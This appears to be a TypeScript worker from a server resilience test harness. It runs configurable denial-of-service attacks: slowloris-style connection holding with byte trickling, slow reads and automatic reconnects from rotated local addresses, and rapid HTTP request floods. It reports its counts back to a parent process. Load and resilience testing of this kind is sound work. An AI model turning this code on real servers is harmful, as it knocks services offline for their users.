/** Usage: attack.ts ATTACK. Runs an attack (see clients.ts) until it receives a message, then sends its counts and exits. */
import { Agent, request } from "node:http"
import { connect, type Socket } from "node:net"
import type { Attack, AttackCounts, Hold, Loop } from "../clients.ts"

const attack = JSON.parse(process.argv[2]!) as Attack
const counts = { opened: 0, failed: 0, closed: 0, requests: 0, bytes: 0 }
const statuses: Record<string, number> = {}
const retryMillis = 1000
/** The time in which all connections are opened. */
const rampMillis = 1000

const later = (again: () => void) => setTimeout(again, retryMillis * (0.5 + Math.random()))

/** Keeps a connection open, and opens another one when it is closed. Reads nothing, a byte a second, or everything. */
const hold = ({ addresses, host, port, read, send, trickle }: Hold, n: number): void => {
  let socket: Socket
  const onread = { buffer: Buffer.alloc(read === "byte" ? 1 : 65_536), callback: () => read === "all" }
  socket = connect({ port, host, localAddress: addresses[n % addresses.length]!, onread, noDelay: true }, () => {
    counts.opened++
    if (send !== "") socket.write(Buffer.from(send, "base64"))
    if (read === "nothing") socket.pause()
  })
  let at = 0
  const bytes = Buffer.from(trickle, "base64")
  const ticking = setInterval(() => {
    if (read === "byte") socket.resume()
    if (bytes.length > 0 && socket.writable) socket.write(bytes.subarray(at % bytes.length, at++ % bytes.length + 1))
  }, 1000)
  socket.on("error", () => counts.failed++)
  socket.on("end", () => socket.destroy())
  socket.on("close", () => {
    clearInterval(ticking)
    counts.closed++
    later(() => hold(attack as Hold, n))
  })
}

/** Sends one request after the other. */
const loop = ({ headers, host, paths, port }: Loop, n: number, agent: Agent): void => {
  let next = n
  const send = () => {
    const path = paths[next++ % paths.length]!
    const sent = request({ agent, host, port, path, headers: headers[n % headers.length]! }, (response) => {
      statuses[response.statusCode!] = (statuses[response.statusCode!] ?? 0) + 1
      response.on("data", (chunk: Buffer) => counts.bytes += chunk.length)
      response.on("error", () => {})
      response.on("close", () => {
        counts.requests++
        setImmediate(send)
      })
    })
    sent.on("error", () => {
      counts.failed++
      later(send)
    })
    sent.end()
  }
  send()
}

// Not all in one moment: Node.js accepts one connection in each turn, so other callers would wait in the queue behind them.
const pause = rampMillis / attack.connections
const agent = new Agent({ keepAlive: true, localAddress: attack.addresses[0]! })
for (let n = 0; n < attack.connections; n++) {
  setTimeout(() => attack.kind === "hold" ? hold(attack, n) : loop(attack, n, agent), n * pause)
}
process.once("message", () => {
  process.send!({ ...counts, statuses } satisfies AttackCounts, () => process.exit(0))
})
process.once("disconnect", () => process.exit(0))
process.send!("started")
